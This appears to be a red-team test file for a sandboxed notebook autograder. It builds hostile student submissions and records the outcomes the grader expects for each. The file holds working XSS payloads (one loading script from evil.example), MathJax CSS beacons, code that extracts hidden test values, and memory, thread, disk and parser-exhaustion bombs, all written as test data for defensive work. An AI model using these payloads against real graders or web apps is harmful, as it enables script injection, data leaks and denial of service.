    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": WRONG_COARSE})
    cells = nbtools.cells_by_id(notebook)
    for gid in (SINGLE, COARSE, "think_causal_language"):
        cells[gid].metadata["nbgrader"]["points"] = 100
    cells[COARSE].metadata["nbgrader"]["grade"] = False
    cells["get_coarse_corr"].metadata["nbgrader"].update(grade=True, points=100)
    _save(folder, notebook)


def nbformat3_notebook(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, {**answers, "get_coarse_corr": WRONG_COARSE})
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.convert(notebook, 3), str(folder / "correlations.ipynb"))


def honest_single_wrong_coarse(folder, release, answers, secrets):
    _write(folder, release, answers, {"get_coarse_corr": WRONG_COARSE})


# HTML and script for the TA's formgrader and the feedback pages.

XSS = ("<script>alert('hostile-xss')</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"
       "<img src=x onerror=alert('hostile-xss')><svg onload=alert(1)></svg>"
       "<a href=\"javascript:alert('hostile-xss')\">link</a><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"
       "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
       "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")
XSS_MARKDOWN = ("[a](jav&#x61;script:alert(1)) [b](&#106;avascript&#58;alert(1)) [c][r] <!-- --><img src=x onerror=alert(1)>\n"
                "<img\nsrc=x onerror=alert(1)> $\\href{javascript:alert(1)}{d}$ `</code><img src=x onerror=alert(1)>`\n\n"
                "[r]: &#x6A;avascript&#x3A;alert(1)\n")


def asks_reference_about_other_tests(folder, release, answers, secrets):
    # Exercise 1 keeps every input it is given (hidden ones included); while get_coarse_corr is
    # tested, its compute_connectivity_from_single_neuron is the grader's reference: asked about
    # those kept inputs, it would give Exercise 1's expected values away (and a lookup table of
    # them full marks in the next submission). Asked with a 100000-long int8 index, it would make
    # the grader allocate gigabytes.
    single = (
        "_KEPT = []\n"
        "def compute_connectivity_from_single_neuron(X, selected_neuron):\n"
        "    _KEPT.append((np.array(X, dtype=float), selected_neuron))\n"
        "    return np.zeros(np.shape(X)[0])\n")
    coarse = (
        "_ASKED = {'answered': 0, 'refused': 0, 'amplify': 'not tried', 'values': []}\n"
        "def get_coarse_corr(n_groups, X, A):\n"
        "    for kept, neuron in list(_KEPT):\n"
        "        if np.shape(kept) == np.shape(X) and np.array_equal(kept, X):\n"
        "            continue\n"
        "        # as it is, as nested lists of 0-d arrays, and as a list of rows (red team, round 2)\n"
        "        for disguised in (kept, [[np.array(v) for v in row] for row in kept], list(kept)):\n"
        "            try:\n"
        "                _ASKED['values'].append(np.asarray(compute_connectivity_from_single_neuron(disguised, neuron)).tolist())\n"
        "                _ASKED['answered'] += 1\n"
        "            except PermissionError:\n"
        "                _ASKED['refused'] += 1\n"
        "    try:\n"
        "        compute_connectivity_from_single_neuron(np.ones((1, 1000), dtype=np.int8), np.zeros(100000, dtype=np.int8))\n"
        "        _ASKED['amplify'] = 'answered'\n"
        "    except PermissionError:\n"
        "        _ASKED['amplify'] = 'refused'\n"
        "    return 0.0, np.zeros((n_groups, n_groups)), np.zeros((n_groups, n_groups))\n")
    notebook = _write(folder, release, answers, {"compute_connectivity_from_single_neuron": single,
                                                 "get_coarse_corr": coarse})
    notebook.cells.append(nbformat.v4.new_code_cell(
        "import base64, json\n"
        "print(f\"ASKED answered {_ASKED['answered']} amplify {_ASKED['amplify']} refused-any {_ASKED['refused'] > 0}\")\n"
        "print('LEAK', base64.b64encode(json.dumps(_ASKED['values']).encode()).decode())"))
    _save(folder, notebook)


def fills_runtime_folder(folder, release, answers, secrets):
    # the kernel's sockets live in a host folder bound read-write into the sandbox (not a sized tmpfs)
    _wrong_with(folder, release, answers, (
        "import json as _json, os as _os, sys as _sys\n"
        "_connection = [a for a in _sys.argv if a.endswith('.json')][0]\n"
        "_runtime = _os.path.dirname(_json.load(open(_connection))['ip'])\n"
        "for _i in range(40):\n"
        "    with open(_os.path.join(_runtime, f'fill-{_i}.bin'), 'wb') as _f:\n"
        "        for _ in range(20):\n"
        "            _f.write(b'\\0' * (1 << 20))\n"))


def hides_files_in_runtime_folder(folder, release, answers, secrets):
    # red team round 2: unlinked files held open are on the host's disk yet in no folder listing
    _wrong_with(folder, release, answers, (
        "import glob as _glob, os as _os\n"
        "_runtime = _os.path.dirname(_glob.glob('/tmp/*/runtime/kernel*')[0])\n"
        "_held = []\n"
        "for _i in range(40):\n"
        "    _fd = _os.open(_os.path.join(_runtime, f'.h{_i}'), _os.O_CREAT | _os.O_RDWR, 0o600)\n"
        "    _os.unlink(_os.path.join(_runtime, f'.h{_i}'))\n"
        "    for _ in range(20):\n"
        "        _os.write(_fd, b'\\xa5' * (1 << 20))\n"
        "    _held.append(_fd)\n"))


def fills_memfd(folder, release, answers, secrets):
    # red team round 2: a memfd written (never mapped) is memory no process's resident size shows
    _wrong_with(folder, release, answers, (
        "import os as _os\n"
        "_held = []\n"
        "for _i in range(30):\n"
        "    _fd = _os.memfd_create(f'm{_i}')\n"
        "    for _ in range(100):\n"
        "        _os.write(_fd, b'\\xa5' * (1 << 20))\n"
        "    _held.append(_fd)\n"))


def fills_sysv_shm(folder, release, answers, secrets):
    _wrong_with(folder, release, answers, (
        "import ctypes as _ctypes\n"
        "_libc = _ctypes.CDLL(None, use_errno=True)\n"
        "_libc.shmat.restype = _ctypes.c_void_p\n"
        "_id = _libc.shmget(0, _ctypes.c_size_t(3 << 30), 0o1600)\n"
        "print('SHMGET', _id)\n"
        "if _id >= 0:\n"
        "    _address = _libc.shmat(_id, None, 0)\n"
        "    _ctypes.memset(_address, 0xa5, 3 << 30)\n"
        "    _libc.shmdt(_ctypes.c_void_p(_address))\n"))


def thread_bomb(folder, release, answers, secrets):
    # red team, round 6: threads are tasks (PIDs) too; 3000 of them passed the process limit
    _wrong_with(folder, release, answers, (
        "import threading as _threading, time as _time\n"
        "_threading.stack_size(32 * 1024)\n"
        "_release = _threading.Event()\n"
        "for _ in range(3000):\n"
        "    _threading.Thread(target=_release.wait, daemon=True).start()\n"
        "_time.sleep(6)\n"
        "_release.set()\n"))


def metadata_of_many_objects(folder, release, answers, secrets):
    # red team, round 7: two million empty dicts in one cell's metadata (6 MB) cost the grader's own
    # process 5 GB and four minutes in nbgrader; more than the grader reads is set aside
    notebook = nbtools.fill_answers(release, answers)
    notebook.cells.append(nbformat.v4.new_raw_cell("x", metadata={"x": [{} for _ in range(300_000)]}))
    _save(folder, notebook)


def metadata_of_many_objects_below_the_cap(folder, release, answers, secrets):
    # under the cap, the objects are dropped at staging (cell metadata is allowlisted): graded as usual
    notebook = nbtools.fill_answers(release, answers)
    for cell in notebook.cells:
        cell.metadata["junk"] = [{} for _ in range(2_000)]
    notebook.metadata["junk"] = [{"a": []} for _ in range(40_000)]
    _save(folder, notebook)


def slow_html_outputs(folder, release, answers, secrets):
    # red team, round 7: misnested formatting tags make the HTML parser quadratic (1.8 s an output);
    # 100 of them held the batch's nbgrader thread for five minutes. The sanitizer's time budget
    # shows what comes after it as plain text.
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr", (
        "from IPython.display import HTML, display\n"
        "for _i in range(100):\n"
        "    display(HTML('<a><b><i><u><s>' * 1250))\n")))


def slow_to_parse_and_render(folder, release, answers, secrets):
    # red team, round 8, three ways past round 7's budget (each one item that took a minute):
    # HTML that makes the parser re-open 1,100 formatting elements 1,400 times, a raw cell of
    # 11 M characters, and 50,000 unclosed "\(" for the feedback's maths conversion
    notebook = _write(folder, release, answers, _prepend(answers, "get_coarse_corr", (
        "from IPython.display import HTML, display\n"
        "display(HTML('<p>' + ''.join(f'<b x{i}>' for i in range(1100)) + '<p>x' * 1400))\n")))
    notebook.cells.append(nbformat.v4.new_raw_cell("<x " + "\\(" * 1_000_000))
    notebook.cells.append(nbformat.v4.new_markdown_cell("\\(" * 50_000))
    # round 9: twenty macros, each two copies of the one before (38 MB of MathML in the feedback)
    names = [f"z{chr(97 + i)}" for i in range(20)]
    bomb = f"\\def\\{names[0]}{{x}}" + "".join(f"\\def\\{b}{{{{\\{a}}}{{\\{a}}}}}" for a, b in zip(names, names[1:]))
    notebook.cells.append(nbformat.v4.new_markdown_cell(f"${bomb}\\{names[-1]}$"))
    _save(folder, notebook)


def lone_surrogate(folder, release, answers, secrets):
    # valid JSON ("\\ud800") that no UTF-8 file can hold: writing the notebook back used to stop the batch
    notebook = nbtools.fill_answers(release, answers)
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and nbtools.is_answer(cell):
            cell.source = "My answer \ud800 goes here."
            break
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "correlations.ipynb").write_text(json.dumps(notebook), encoding="ascii")


def markdown_script_injection(folder, release, answers, secrets):
    _write(folder, release, answers, {"think_causal_language": "My answer. " + XSS + "\n\n" + XSS_MARKDOWN,
                                      "think_dimensionality": "<div onmouseover=\"alert(1)\">" + XSS + "</div>"})


def output_script_injection(folder, release, answers, secrets):
    # the payloads are assembled at run time: the cell's source (shown as code) holds none of them
    attack = (
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        "_s, _e, _j = '<scr' + 'ipt>', 'oner' + 'ror=', 'javas' + 'cript:'\n"
        "display(HTML(_s + \"alert('hostile-xss')\" + _s.replace('<', '</') + '<img src=x ' + _e + \"alert(1)>\"))\n"
        "display(Javascript(\"alert('hostile-xss')\"))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" on' + 'load=\"alert(1)\">' + _s + 'alert(2)' + _s.replace('<', '</') + '</svg>'))\n"
        "display(Markdown('<img src=x ' + _e + 'alert(3)> [x](' + _j + 'alert(4))'))\n"
        "display({'text/html': '<iframe src=\"' + _j + 'alert(5)\"></iframe><a href=\"jav&#x09;ascript:alert(6)\">x</a>',\n"
        "         'text/plain': 'x'}, raw=True)\n"
        "display({'text/latex': '$<img src=x ' + _e + 'alert(7)>$', 'text/plain': 'x'}, raw=True)\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': '</scr' + 'ipt>' + _s + 'alert(8)</scr' + 'ipt>',\n"
        "         'version_major': 2, 'version_minor': 0}, 'text/plain': 'x'}, raw=True)\n"
        "display({'image/png': 'iVBORw0KGgo=\" ' + _e + '\"alert(9)', 'text/plain': 'x'}, raw=True)\n"
        "class _Pretty:\n"
        "    def _repr_html_(self):\n"
        "        return _s + 'alert(10)' + _s.replace('<', '</')\n"
        "_Pretty()\n")
    _write(folder, release, answers, _prepend(answers, "get_coarse_corr", attack))


MATHJAX_BEACONS = (r"$\fcolorbox{red; cursor: url(http://127.0.0.1:8765/fcolorbox.png), auto}{white}{hover me}$ "
                   r"$\definecolor{evil}{named}{blue; cursor: url(http://127.0.0.1:8765/define.png), pointer}"
                   r"\fcolorbox{evil}{yellow}{x}$ $\style{cursor: url(http://127.0.0.1:8765/style.png)}{y}$")


def mathjax_css_beacon(folder, release, answers, secrets):
    # red team, round 6: MathJax in a TA's JupyterLab pasted fcolorbox's colour text into a style,
    # and chromium fetched the cursor URL as soon as the notebook opened
    attack = ("from IPython.display import display\n"
              f"_tex = {MATHJAX_BEACONS!r}\n"
              "display({'text/latex': _tex, 'text/markdown': _tex, 'text/html': '<p>' + _tex + '</p>',\n"
              "         'text/plain': 'x'}, raw=True)\n")
    _write(folder, release, answers, {**_prepend(answers, "get_coarse_corr", attack),
                                      "think_causal_language": "My answer, with maths: " + MATHJAX_BEACONS})


def metadata_script_injection(folder, release, answers, secrets):
    notebook = nbtools.fill_answers(release, answers)
    notebook.metadata["title"] = XSS
    notebook.metadata.setdefault("kernelspec", {})["display_name"] = XSS
    notebook.metadata["language_info"] = {"name": XSS, "codemirror_mode": XSS}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "HTMLModel", "state": {"value": XSS}}}, "version_major": 2, "version_minor": 0}}
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.metadata["tags"] = cell.metadata.get("tags", []) + ["</script><script>alert(1)</script>"]
            cell.metadata["jupyter"] = {"source_hidden": XSS}
        if nbtools.grade_id(cell) == "think_dimensionality":
            cell["attachments"] = {"x.svg": {"image/svg+xml": base64.b64encode(
                b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>").decode()}}
            cell.source += "\n![x](attachment:x.svg)\n"
    _save(folder, notebook)


CASES = {
    "syntax_error": Case("a syntax error in one answer", syntax_error, scores={SINGLE: FULL, COARSE: 0}),
    "refuses_everything": Case("get_coarse_corr raises ValueError for every input", refuses_everything,
                               scores={SINGLE: FULL, COARSE: 0, COARSE_INVALID: 0}),
    "raise_at_import": Case("an answer cell raises before defining its function", raise_at_import,
                            scores={SINGLE: 0, COARSE: FULL}),
    "infinite_loop": Case("an infinite loop, interrupted at the cell limit", infinite_loop,
                          scores={SINGLE: FULL, COARSE: 0}, note="time limit per cell"),
    "ignores_sigint": Case("an infinite loop that ignores SIGINT", loop_ignoring_sigint,
                           status="timeout", scores={SINGLE: 0, COARSE: 0}, note="did not stop when interrupted"),
    # What the hoarded memory does to later cells is up to the student: only the
    # bomb's own exercise is checked.
    "memory_bomb": Case("allocates until the memory limit", memory_bomb,
                        scores={SINGLE: 0, COARSE: None}, note="ran out of memory"),
    "sys_exit": Case("calls sys.exit in an answer cell", sys_exit, scores={SINGLE: 0, COARSE: FULL}),
    "os_exit": Case("calls os._exit (the kernel disappears)", os_exit, status="crashed",
                    scores={SINGLE: 0, COARSE: 0}, note="kernel died"),
    "kernel_crash": Case("segfaults the kernel", kernel_crash, status="crashed",
                         scores={SINGLE: 0, COARSE: 0}, note="kernel died"),
    "huge_output": Case("prints 25 MB", huge_output, note="truncated"),
    "deleted_test_cell": Case("deleted a test cell (restored from the source)", deleted_test_cell),
    "edited_test_cell": Case("replaced a test cell by `pass` (restored from the source)", edited_test_cell,
                             scores={SINGLE: FULL, COARSE: 0}),
    "changed_grade_id": Case("renamed a test cell's grade_id", changed_grade_id),
    "invalid_json": Case("a notebook that is not valid JSON", invalid_json, status="invalid",
                         scores={SINGLE: 0, COARSE: 0}, note="not a valid notebook"),
    "renamed_notebook": Case("uploaded the notebook under another name", renamed_notebook, note="graded as"),
    "missing_notebook": Case("uploaded no notebook", missing_notebook, status="missing",
                             scores={SINGLE: 0, COARSE: 0}, note="missing notebook"),
    "extra_files": Case("extra files, one shadowing helpers", extra_files),
    # Patching the kernel's numpy or helpers cannot change a verdict (the tests run in the
    # grader): the wrong answer scores 0, the right one full marks, and a human is asked to look.
    "monkeypatched_numpy": Case("np.allclose = lambda ...: True", monkeypatched_numpy,
                                scores={SINGLE: FULL, COARSE: 0}, note="np.allclose"),
    "monkeypatched_checks": Case("replaces the course's assert helpers", monkeypatched_checks,
                                 scores={SINGLE: FULL, COARSE: 0}, note="helpers.checks"),
    "obfuscated_monkeypatch": Case("setattr through __import__", obfuscated_monkeypatch,
                                   scores={SINGLE: FULL, COARSE: 0}, note="setattr"),
    "reads_hidden_tests": Case("looks for sources, gradebook and other notebooks", reads_hidden_tests,
                               output="FOUND 0 []"),
    # The sandbox gives the course folder a private, empty tmpfs: writes land
    # there and vanish. The test checks the real gradebook and folders.
    "prints_hidden_tests": Case("prints the kernel's input history (the hidden tests never enter it)",
                                prints_hidden_tests, output="def get_coarse_corr", absent="_expected_single_neuron"),
    "tags_tests_to_skip": Case("tags a test cell skip-execution / skip-when-grading", tags_tests_to_skip,
                               scores={SINGLE: FULL, COARSE: 0}),
    "uses_demo_variable": Case("an answer reads a variable from an instructor demo cell (the cell then runs)",
                               uses_demo_variable),
    "reads_environment": Case("prints the kernel's environment (the grader's secrets must not be there)",
                              reads_environment, output="ENVIRONMENT", absent="s3cret-grader-token"),
    "opens_network_connection": Case("connects to a server of the grading machine (a database, say)",
                                     opens_network_connection, output="NETWORK BLOCKED", absent="NETWORK OPEN"),
    "writes_grades": Case("tries to write the gradebook and another student's folder", writes_grades),

    # -- red team (see the section above the cases) --
    "ast_transformer_swallows_errors": Case("an ast transformer wraps every later statement in try/except",
                                            ast_transformer_swallows_errors, scores={SINGLE: 0, COARSE: 0}),
    # fails now and then while interrupting an idle kernel can swallow the grader's probe (execute._kernel_responds)
    "input_transformers_drop_code": Case("input transformers turn cells with an assert, and the grader's code, into pass",
                                         input_transformers_drop_code, scores={SINGLE: 0, COARSE: 0}),
    "run_cell_hooks": Case("post_run_cell clears error_in_exec; pre_run_cell shows 3 (partial credit)",
                           run_cell_hooks, scores={SINGLE: 0, COARSE: 0}),
    "replaces_checks_numpy": Case("helpers.checks.np = a numpy whose any() is always False",
                                  replaces_checks_numpy, scores={SINGLE: 0, COARSE: 0}),
    "patches_and_restores": Case("patches the checks before each cell (hook, thread), restores them after",
                                 patches_and_restores, scores={SINGLE: 0, COARSE: 0}),
    "tampers_in_magics": Case("tampers inside %time, get_ipython().ex, run_cell and run_line_magic",
                              tampers_in_magics, scores={SINGLE: 0, COARSE: 0}),
    "reads_reference_from_frames": Case("the answer walks frames, inspect.stack and gc for _expected_*",
                                        reads_reference_from_frames, scores={SINGLE: 0, COARSE: 0},
                                        output="FRAMES SEEN", absent=HIDDEN),
    "hook_prints_every_cell": Case("hooks print all code the kernel runs, plain and base64",
                                   hook_prints_every_cell, scores={SINGLE: 0, COARSE: 0},
                                   output="CELL BASE64", absent=HIDDEN),
    "reads_host_files": Case("reads /etc/passwd, /proc/*/cmdline|environ, the worker's job, the course, /root, /home",
                             reads_host_files, scores={SINGLE: 0, COARSE: 0}, output="LEAKS 0 OF",
                             absent=HIDDEN + ("s3cret-grader-token",)),
    # sorts just before "honest": both are graded at the same time by the two workers
    "hijacks_bridge_sockets": Case("a thread connects first to every bridge socket it can find and forges replies",
                                   hijacks_bridge_sockets, scores={SINGLE: 0, COARSE: 0}),
    # The grader's own work on a reply must be bounded like the kernel's (cell limit, memory).
    # The next three fail while it is not: status "timeout" instead of a TimeoutError at 8 s.
    "dribbles_reply": Case("writes its reply to the grader one byte every 0.5 s (the cell limit must hold)",
                           dribbles_reply, scores={SINGLE: 0, COARSE: 0}),
    "forges_huge_reply": Case("writes a 100 MB reply of 50 million list items to the grader",
                              forges_huge_reply, scores={SINGLE: 0, COARSE: 0}),
    "returns_range_bomb": Case("returns range(10**8): a few bytes on the wire, 4.6 GB in the grader's process",
                               returns_range_bomb, scores={SINGLE: 0, COARSE: 0}),
    "returns_huge_values": Case("returns a 1 GB array and a 60-million-item list", returns_huge_values,
                                scores={SINGLE: 0, COARSE: 0}, note="ran out of memory"),
    "returns_nested_and_cyclic": Case("returns 100000-deep and cyclic lists", returns_nested_and_cyclic,
                                      scores={SINGLE: 0, COARSE: 0}),
    "returns_lying_objects": Case("returns an ndarray subclass, an object array, objects whose __array__, __eq__, "
                                  "__float__ lie, a function", returns_lying_objects, scores={SINGLE: 0, COARSE: 0}),
    "returns_torch_subclass": Case("returns a lying torch.Tensor subclass, a complex tensor, a function",
                                   returns_torch_subclass, scores={SINGLE: 0, COARSE: 0}),
    "raises_lying_errors": Case("raises AssertionError('Visible checks passed.' * 10**6), an exception whose __str__ raises",
                                raises_lying_errors, scores={SINGLE: 0, COARSE: 0}),
    "raises_exits": Case("the tested functions raise SystemExit and KeyboardInterrupt", raises_exits,
                         scores={SINGLE: 0, COARSE: 0}),
    "replaces_kernel_modules": Case("replaces sys.modules['json'], ['numpy'] and builtins.__import__ in the kernel",
                                    replaces_kernel_modules, scores={SINGLE: 0, COARSE: 0}),
    "sleeps_and_forks": Case("a tested function sleeps an hour; the other leaves a detached process behind",
                             sleeps_and_forks, scores={SINGLE: 0, COARSE: 0}),
    "nbgrader_metadata_string": Case("metadata.nbgrader is a string on answer and test cells",
                                     nbgrader_metadata_string, scores={SINGLE: FULL, COARSE: 0}),
    "nbgrader_metadata_null_and_list": Case("metadata.nbgrader is null or a list on answer and test cells",
                                            nbgrader_metadata_null_and_list, scores={SINGLE: FULL, COARSE: 0}),
    # fails while normalize_structure keeps the label on the first copy (run before the answer)
    "duplicated_test_cells": Case("honest answers, a copy of each test cell pasted above its answer",
                                  duplicated_test_cells),
    "changed_points": Case("test cells worth 100 points, a test made ungraded, an answer made graded",
                           changed_points, scores={SINGLE: FULL, COARSE: 0}, note="metadata restored"),
    "nbformat3_notebook": Case("the notebook saved as nbformat 3", nbformat3_notebook,
                               scores={SINGLE: FULL, COARSE: 0}),
    "outcomes.json": Case("a student whose id is the name of the grader's outcomes.json",
                          honest_single_wrong_coarse, scores={SINGLE: FULL, COARSE: 0}),
    "asks_reference_about_other_tests": Case(
        "asks the grader's reference about Exercise 1's hidden inputs and with a huge index array",
        asks_reference_about_other_tests, scores={SINGLE: 0, COARSE: 0},
        output="ASKED answered 0 amplify refused refused-any True"),
    "fills_runtime_folder": Case("writes 800 MB to the kernel's runtime folder (bound from the host's disk)",
                                 fills_runtime_folder, status="limit", scores={SINGLE: 0, COARSE: 0},
                                 note="runtime folder"),
    "hides_files_in_runtime_folder": Case("writes 800 MB to unlinked files it keeps open in the runtime folder",
                                          hides_files_in_runtime_folder, status="limit", scores={SINGLE: 0, COARSE: 0},
                                          note="runtime folder"),
    # seccomp refuses memfds and SysV shared memory: detached or passed through a socket, they belong
    # to no process and no limit could see them (red team, rounds 2 and 3)
    "fills_memfd": Case("writes 3 GB into memfds it never maps (memory no resident size shows)", fills_memfd,
                        scores={SINGLE: 0, COARSE: 0}, output="Operation not permitted"),
    "fills_sysv_shm": Case("fills a 3 GB SysV shared memory segment and detaches it", fills_sysv_shm,
                           scores={SINGLE: 0, COARSE: 0}, output="SHMGET -1"),
    "thread_bomb": Case("starts 3000 threads in one process (each takes a PID of the host)", thread_bomb,
                        status="limit", scores={SINGLE: 0, COARSE: 0}, note="threads"),
    "metadata_of_many_objects": Case("300,000 empty dicts in a cell's metadata (too many for the grader to read)",
                                     metadata_of_many_objects, status="invalid", scores={SINGLE: 0, COARSE: 0},
                                     note="JSON objects"),
    "metadata_of_many_objects_below_the_cap": Case("80,000 small objects in notebook and cell metadata",
                                                   metadata_of_many_objects_below_the_cap),
    "slow_html_outputs": Case("100 HTML outputs that make the HTML parser quadratic", slow_html_outputs,
                              html_safe=True),
    "slow_to_parse_and_render": Case("HTML, a raw cell and maths built to make parsers slow, a macro bomb",
                                     slow_to_parse_and_render, html_safe=True),
    "lone_surrogate": Case("honest answers, a lone surrogate in a written answer", lone_surrogate,
                           note="lone surrogates"),
    "markdown_script_injection": Case("<script>, onerror=, javascript: links, mXSS in written answers",
                                      markdown_script_injection, html_safe=True),
    "output_script_injection": Case("<script>, onerror=, Javascript, SVG, LaTeX, widget views in a cell's outputs",
                                    output_script_injection, html_safe=True),
    "mathjax_css_beacon": Case("MathJax colour commands that paste a cursor URL into a style (answers, outputs)",
                               mathjax_css_beacon, html_safe=True),
    "metadata_script_injection": Case("<script> in notebook and cell metadata, widget state, an SVG attachment",
                                      metadata_script_injection, html_safe=True),
}
